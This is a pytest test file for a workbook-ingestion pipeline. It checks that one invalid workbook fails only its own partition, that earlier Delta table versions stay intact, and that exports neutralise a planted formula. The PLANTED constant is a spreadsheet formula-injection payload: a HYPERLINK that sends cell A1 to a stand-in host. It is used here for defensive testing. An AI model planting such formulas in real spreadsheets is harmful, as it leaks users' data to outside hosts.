"""One bad workbook among good ones: only its partition fails; the other assessments,
its earlier validated data and every earlier version of every output stay as they
were. Also: text planted in a workbook reaches the CSV and XLSX exports neutralised."""

from __future__ import annotations

import shutil
import zipfile

import pandas as pd
import pytest
from deltalake import DeltaTable
from openpyxl import load_workbook

from mrc_pipeline.reference import DEFAULT_DATA_DIR
from mrc_pipeline_tests.workbook_factory import edit

KEPT = ("COL-2023", "UGA-2023")
BAD = "KEN-2023"
PLANTED = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
PARTITIONED = ("assessment_info", "capability_ratings", "gaps", "recommendations")


def _snapshot(output):
    """Per output table: its latest version number and content; per partition file:
    its bytes."""
    tables = {p.name: (DeltaTable(str(p)).version(), DeltaTable(str(p)).to_pandas())
              for p in sorted((output / "tables").iterdir())}
    files = {p.relative_to(output / "store").as_posix(): p.read_bytes()
             for p in sorted((output / "store").rglob("*.parquet"))}
    return tables, files


def _plant(wb):
    """Type the formula as text (Excel: a leading apostrophe) into the assessor team."""
    cell = wb["assessment"]["B5"]
    cell.value = PLANTED
    cell.data_type = "s"


@pytest.fixture(scope="module")
def two_runs(tmp_path_factory):
    """Run 1 on three good workbooks (one with a formula planted in its assessor team
    field); then KEN-2023 is spoilt and run 2 goes over the same folders."""
    from mrc_pipeline.defs.runner import run_pipeline

    base = tmp_path_factory.mktemp("isolation")
    data = base / "data"
    for folder in ("reference", "published"):
        shutil.copytree(DEFAULT_DATA_DIR / folder, data / folder)
    (data / "assessments").mkdir()
    for aid in (*KEPT, BAD):
        shutil.copy(DEFAULT_DATA_DIR / "assessments" / f"{aid}.xlsx", data / "assessments")
    edit(data / "assessments" / "UGA-2023.xlsx", _plant)
    output, home = base / "output", base / "dagster"
    first = run_pipeline(data, output, home)
    before = _snapshot(output)

    def spoil(wb):
        wb["capabilities"]["D2"] = 0
        wb["gaps"]["E3"] = "2,5"

    edit(data / "assessments" / f"{BAD}.xlsx", spoil)
    second = run_pipeline(data, output, home)
    return first, second, before, _snapshot(output), output


def test_first_run_loads_all_three(two_runs):
    first, *_ = two_runs
    assert sorted(first.loaded) == sorted([*KEPT, BAD]) and not first.failed


def test_bad_workbook_fails_only_its_partition(two_runs):
    first, second, *_ = two_runs
    assert sorted(second.loaded) == sorted(KEPT)
    assert second.aggregate_ok
    assert second.failed == {BAD: [
        f"{BAD}.xlsx:capabilities!D2: error: found 0, expected a whole number 1-4, a "
        "maturity label or blank (leave the cell blank when not rated)",
        f"{BAD}.xlsx:gaps!E3: error: found '2,5', a non-integer; expected a whole number "
        "1-5, a priority label or blank"]}
    failed = [(c.asset, c.check, c.partition) for c in second.checks_failed]
    assert failed == [("raw_workbook", "workbook_valid", BAD)]
    text = second.render()
    # Its first version validated, so the aggregates keep that one, and say so.
    assert second.stale == {BAD}
    assert (f"{BAD}: 2 errors; the aggregates keep its last valid version (status stale "
            "in the assessments table)") in text
    # A failed workbook makes the run's exit status 1 (warnings alone would not).
    assert first.exit_status == 0 and second.exit_status == 1
    assert f"{BAD}.xlsx:capabilities!D2: error: found 0" in text


def test_earlier_partition_files_of_the_bad_workbook_untouched(two_runs):
    *_, before, after, _ = two_runs
    _, files_before = before
    _, files_after = after
    for table in PARTITIONED:
        key = f"{table}/{BAD}.parquet"
        assert files_after[key] == files_before[key], key


def test_other_assessments_outputs_unchanged(two_runs):
    *_, before, after, _ = two_runs
    _, files_before = before
    _, files_after = after
    for table in PARTITIONED:
        for aid in KEPT:
            key = f"{table}/{aid}.parquet"
            pd.testing.assert_frame_equal(pd.read_parquet(_io(files_after[key])),
                                          pd.read_parquet(_io(files_before[key])))


def _io(data: bytes):
    import io

    return io.BytesIO(data)


def test_earlier_output_versions_intact(two_runs):
    *_, before, after, output = two_runs
    tables_before, _ = before
    tables_after, _ = after
    assert set(tables_after) == set(tables_before)
    for name, (version, frame) in tables_before.items():
        new_version, new_frame = tables_after[name]
        assert new_version == version + 1, name
        # Version ``version`` still reads back exactly as it was written.
        old = DeltaTable(str(output / "tables" / name), version=version).to_pandas()
        pd.testing.assert_frame_equal(old, frame, check_like=True)
        # Apart from the catalogue's status, the new version equals the old one: the
        # aggregates still use KEN-2023's last valid data.
        if name != "assessments":
            pd.testing.assert_frame_equal(new_frame, frame, check_like=True)


def test_catalogue_marks_the_bad_workbook_stale(two_runs):
    *_, before, after, _ = two_runs
    status_before = before[0]["assessments"][1].set_index("assessment_id")["status"]
    status_after = after[0]["assessments"][1].set_index("assessment_id")["status"]
    assert (status_before == "current").all()
    assert status_after[BAD].startswith("stale")
    assert (status_after[list(KEPT)] == "current").all()


def test_planted_formula_neutralised_in_csv_and_xlsx(two_runs):
    *_, output = two_runs
    csv = pd.read_csv(output / "exports" / "assessments.csv").set_index("assessment_id")
    assert csv.loc["UGA-2023", "assessor_team"] == "'" + PLANTED
    wb = load_workbook(output / "exports" / "assessments.xlsx")
    ws = wb["assessments"]
    header = [c.value for c in ws[1]]
    col = header.index("assessor_team") + 1
    cells = {ws.cell(r, 1 + header.index("assessment_id")).value: ws.cell(r, col)
             for r in range(2, ws.max_row + 1)}
    assert cells["UGA-2023"].value == "'" + PLANTED
    assert cells["UGA-2023"].data_type == "s"
    with zipfile.ZipFile(output / "exports" / "assessments.xlsx") as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
